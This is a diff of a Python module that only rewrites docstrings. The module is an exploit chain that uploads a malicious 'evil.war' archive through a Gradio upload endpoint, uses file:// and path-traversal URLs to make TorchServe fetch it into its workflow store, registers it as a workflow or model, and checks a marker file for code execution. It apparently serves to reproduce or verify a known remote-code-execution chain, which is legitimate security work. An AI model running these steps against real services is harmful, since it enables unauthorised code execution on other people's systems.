@@ -1,6 +1,4 @@
-"""What an attacker of a running service does: the chain that once ran code, link by link, on
-whatever a service offers.
-"""
+"""The steps of an attack that once ran code in a service, each usable against a running service."""
 
 from __future__ import annotations
 
@@ -54,7 +52,7 @@ def workflow_archive(marker: Path) -> bytes:
 
 
 def upload(page: str, archive: bytes, headers: dict[str, str]) -> str | None:
-    """Link 1: where the page put a file that a visited web site sent."""
+    """Step 1: upload a file as a visited web site would; returns its path on the server."""
     answer = httpx.post(
         f"{page}/gradio_api/upload",
         files={"files": ("evil.war", archive)},
@@ -68,7 +66,7 @@ def upload(page: str, archive: bytes, headers: dict[str, str]) -> str | None:
 
 
 def fetch_addresses(archive: Path, store: Path) -> list[str]:
-    """Link 2: addresses under which TorchServe may be made to fetch a file into its workflow store."""
+    """Step 2: URLs from which TorchServe might fetch a file into its workflow store."""
     relative = Path(*[".."] * 8) / archive.relative_to("/")
     return [
         f"file://{archive}",
@@ -85,9 +83,7 @@ def fetch_addresses(archive: Path, store: Path) -> list[str]:
 
 
 def register(management: httpx.Client, addresses: Iterable[str]) -> list[int]:
-    """Links 2 and 3: register workflows and models by address or by name; the statuses of the
-    answers.
-    """
+    """Steps 2 and 3: register workflows and models by URL or name; returns the statuses."""
     found = []
     for address in [*addresses, "evil.war"]:
         url = quote(address, safe="")
@@ -101,7 +97,7 @@ def register(management: httpx.Client, addresses: Iterable[str]) -> list[int]:
 
 
 def was_run(marker: Path, seconds: float = 5.0) -> bool:
-    """Whether the archive's code ran: a worker takes a moment to import it."""
+    """Whether the archive's code ran. Waits a moment, because a worker needs time to import it."""
     deadline = time.monotonic() + seconds
     while time.monotonic() < deadline:
         if marker.exists():
